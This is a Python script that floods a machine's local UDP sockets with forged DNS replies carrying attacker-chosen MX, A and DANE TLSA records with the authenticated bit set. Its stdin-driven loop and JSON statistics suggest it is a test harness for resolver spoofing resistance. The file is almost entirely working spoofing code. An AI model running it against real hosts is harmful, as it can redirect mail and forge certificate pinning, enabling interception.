#!/usr/bin/python3
"""Spray forged DNS replies at the UDP sockets of a host (standard library
only; meant to run without privileges, as an off-path attacker on the
same machine would).

  dnsforge.py --domain D --mx HOST --addr A.B.C.D --tlsa HEX
              [--batch N] [--interval SECONDS]

Prints "ready" once it runs, then until its standard input ends: reads the
UDP sockets of /proc/net/udp, and to every socket bound to 127.0.0.1 or
0.0.0.0 with a port a DNS client may use (those of
/proc/sys/net/ipv4/ip_local_port_range, and the rest above 1023, since
libunbound draws its query ports from 1024-65535 itself) sends forged
replies with random IDs, AD=1 and RA=1, to the
questions D MX, HOST A and _25._tcp.HOST TLSA (N of each per port, every
SECONDS), each answer section carrying D MX 10 HOST, HOST A A.B.C.D and
_25._tcp.HOST TLSA 3 1 1 HEX (the question's own record first).  At the
end prints one JSON object:

  {"sent": N, "errors": N, "ports": [..], "uid": N,
   "ephemeral": [low, high], "outside": N (packets to ports outside it),
   "rounds": [[time.time(), [[port, packets], ...]], ...]}
"""
import argparse
import json
import os
import random
import socket
import struct
import sys
import threading
import time

T_A, T_MX, T_TLSA = 1, 15, 52


def name(n):
    out = b""
    for label in n.rstrip(".").split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\0"


def rr(owner, rtype, rdata):
    return name(owner) + struct.pack("!HHIH", rtype, 1, 300, len(rdata)) + rdata


def replies(domain, mx, addr, tlsa):
    """One forged reply (without its ID) per question."""
    tlsa_owner = "_25._tcp." + mx
    records = {
        (domain, T_MX): rr(domain, T_MX, struct.pack("!H", 10) + name(mx)),
        (mx, T_A): rr(mx, T_A, socket.inet_aton(addr)),
        (tlsa_owner, T_TLSA): rr(tlsa_owner, T_TLSA,
                                 bytes([3, 1, 1]) + bytes.fromhex(tlsa)),
    }
    out = []
    for (qname, qtype), first in records.items():
        answers = [first] + [r for k, r in records.items()
                             if k != (qname, qtype)]
        # QR RD RA AD, NOERROR; one question, three answers
        head = struct.pack("!HHHHH", 0x81A0, 1, len(answers), 0, 0)
        out.append(head + name(qname) + struct.pack("!HH", qtype, 1) +
                   b"".join(answers))
    return out


def port_range():
    with open("/proc/sys/net/ipv4/ip_local_port_range") as f:
        lo, hi = f.read().split()
    return int(lo), int(hi)


def targets(own):
    """Ports of the UDP sockets a DNS client may wait on."""
    ports = set()
    with open("/proc/net/udp") as f:
        next(f)
        for line in f:
            local = line.split()[1]
            ip, port = local.split(":")
            port = int(port, 16)
            if ip in ("0100007F", "00000000") and port >= 1024 and \
                    port != own:
                ports.add(port)
    return sorted(ports)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--domain", required=True)
    ap.add_argument("--mx", required=True)
    ap.add_argument("--addr", required=True)
    ap.add_argument("--tlsa", required=True)
    ap.add_argument("--batch", type=int, default=4,
                    help="replies per question, port and round")
    ap.add_argument("--interval", type=float, default=0.002)
    args = ap.parse_args()
    forged = replies(args.domain, args.mx, args.addr, args.tlsa)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    own = sock.getsockname()[1]
    lo, hi = port_range()
    done = threading.Event()

    def wait_eof():
        sys.stdin.read()
        done.set()
    threading.Thread(target=wait_eof, daemon=True).start()
    sent = errors = outside = 0
    seen = set()
    rounds = []
    print("ready", flush=True)
    while not done.is_set():
        ports = targets(own)
        t = time.time()
        counts = []
        for port in ports:
            n = 0
            for _ in range(args.batch):
                for msg in forged:
                    pkt = struct.pack("!H", random.getrandbits(16)) + msg
                    try:
                        sock.sendto(pkt, ("127.0.0.1", port))
                        n += 1
                    except OSError:
                        errors += 1
            if n:
                counts.append([port, n])
                seen.add(port)
                sent += n
                if not lo <= port <= hi:
                    outside += n
        if counts:
            rounds.append([t, counts])
        time.sleep(args.interval)
    print(json.dumps({"sent": sent, "errors": errors, "ports": sorted(seen),
                      "uid": os.getuid(), "ephemeral": [lo, hi],
                      "outside": outside, "rounds": rounds}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
